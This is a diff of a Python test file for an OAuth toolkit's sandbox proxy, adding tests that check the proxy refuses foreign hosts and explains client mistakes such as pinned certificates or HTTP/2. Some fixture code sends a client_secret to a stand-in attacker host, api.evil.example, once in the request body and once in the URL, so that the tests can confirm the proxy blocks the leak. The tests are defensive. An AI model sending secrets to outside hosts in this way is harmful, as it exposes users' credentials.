@@ -23,6 +23,7 @@ from support.visitors import Person
 from ddoauth_kit.cli import main
 from ddoauth_kit.commands.login import live_client
 from ddoauth_kit.oauth.callback.addresses import registered_address
+from ddoauth_kit.sandbox import Sandbox
 
 if TYPE_CHECKING:
     from collections.abc import Iterator
@@ -41,6 +42,40 @@ import httpx, sys
 form = {"client_secret": sys.argv[1], "code": "made-up"}
 print(httpx.post("https://api.evil.example/token?hint=" + sys.argv[1], data=form).status_code)
 """
+# What a client does wrong, each in a connection of its own, at the proxy that it finds set.
+MISTAKES = """
+import os, socket, ssl
+from contextlib import suppress
+from urllib.parse import urlsplit
+proxy = urlsplit(os.environ["HTTPS_PROXY"])
+def to_proxy(text):
+    link = socket.create_connection((proxy.hostname, proxy.port), 20)
+    link.sendall(text.encode() + b"\\r\\nHost: x\\r\\n\\r\\n")
+    return link
+def until_end(link):
+    with suppress(ConnectionResetError):
+        while link.recv(9999):
+            pass
+tunnel = "CONNECT api.datadoghq.com:443 HTTP/1.1"
+pinned = to_proxy(tunnel)
+pinned.recv(999)
+with suppress(ssl.SSLError):
+    ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT).wrap_socket(pinned, server_hostname="api.datadoghq.com")
+http2 = to_proxy(tunnel)
+http2.recv(999)
+http2.sendall(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")
+until_end(http2)
+for last in (to_proxy("CONNECT 93.184.216.34:443 HTTP/1.1"),
+             to_proxy("GET http://api.datadoghq.com/ HTTP/1.1")):
+    last.shutdown(socket.SHUT_WR)
+    until_end(last)
+"""
+TOLD = (
+    ("did not accept this run's certificate", "Turn certificate pinning off for this run"),
+    ("The client spoke HTTP/2 to api.datadoghq.com", "turn HTTP/2 off in it."),
+    ("asked for the IP address 93.184.216.34", "or start again with --allow 93.184.216.34."),
+    ("used plain http", "Use https://api.datadoghq.com in your server."),
+)
 WAITS = """
 import subprocess, sys, time
 print(subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"]).pid, flush=True)
@@ -48,11 +83,13 @@ time.sleep(60)
 """
 
 
-def _sandbox(*arguments: str) -> subprocess.CompletedProcess[str]:
+def _sandbox(
+    *arguments: str, environment: dict[str, str] | None = None
+) -> subprocess.CompletedProcess[str]:
     """Run the command as a person does, without proxies and trust of whoever runs the tests."""
     return subprocess.run(
         [*KIT, *arguments],
-        env=clean_environment(),
+        env=environment or clean_environment(),
         capture_output=True,
         text=True,
         timeout=60,
@@ -83,6 +120,19 @@ def test_a_secret_does_not_leave_for_a_foreign_host() -> None:
     assert line.startswith("POST api.evil.example/token 403 refused: ")
     assert line.endswith("The client had sent: client_secret, code in the body; hint in the URL.")
     assert SECRET not in done.stderr
+
+
+def test_what_a_client_does_wrong_is_one_line_each() -> None:
+    """The line says what happened and what to do; so does one for a proxy that was set before."""
+    environment = clean_environment() | {"HTTPS_PROXY": "http://proxy.example:3128"}
+    done = _sandbox(*_python(MISTAKES), environment=environment)
+    assert (done.returncode, done.stdout) == (0, ""), done.stderr
+    lines = [line for line in done.stderr.splitlines() if " refused: " in line]
+    assert len(lines) == len(TOLD)
+    for what, advice in TOLD:
+        (line,) = (line for line in lines if what in line)
+        assert advice in line
+    assert done.stderr.count("note: A proxy is configured already.") == 1
 
 
 @pytest.mark.parametrize("code", [0, 7])
@@ -247,18 +297,32 @@ def test_in_a_pipe_it_names_the_control_key_file() -> None:
 
 
 def test_in_a_pipe_it_names_the_front() -> None:
-    """A client with this proxy and this CA reaches the sandbox under Datadog's own names."""
+    """A program that reads the line reaches Datadog's names by the proxy and the CA it names."""
     with _started() as process:
         assert process.stdout is not None
         said = json.loads(process.stdout.readline())
-        trusted = ssl.create_default_context(cafile=said["ca_file"])
+        ca_file = Path(said["ca_file"])
+        trusted = ssl.create_default_context(cafile=str(ca_file))
         with httpx.Client(proxy=said["proxy"], verify=trusted, trust_env=False) as client:
-            answer = client.get("https://api.datadoghq.eu/api/v2/current_user")
-            assert answer.status_code == 401
-            assert client.get("https://shop.example/").status_code == 403
+            assert client.get("https://api.us3.datadoghq.com/api/v1/validate").status_code == 403
+            foreign = client.post("https://api.evil.example/", data={"client_secret": SECRET})
+        assert foreign.status_code == 403
         process.send_signal(signal.SIGINT)
-        assert process.wait(timeout=20) == 0
-    assert not Path(said["ca_file"]).exists()
+        _, lines = process.communicate(timeout=20)
+    assert process.returncode == 0
+    assert "The client had sent: client_secret in the body." in lines
+    assert SECRET not in lines
+    assert not ca_file.parent.exists()
+
+
+def test_without_trustme_the_line_names_no_front(
+    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A kit without the extra `grade` serves the sandbox as before."""
+    monkeypatch.setitem(sys.modules, "trustme", None)
+    monkeypatch.setattr(Sandbox, "serve_forever", lambda _, announce: announce())
+    assert main(["sandbox"]) == 0
+    assert {"sites", "client", "control"} == set(json.loads(capsys.readouterr().out))
 
 
 @pytest.mark.skipif(os.name != "posix", reason="pseudo-terminals are POSIX")
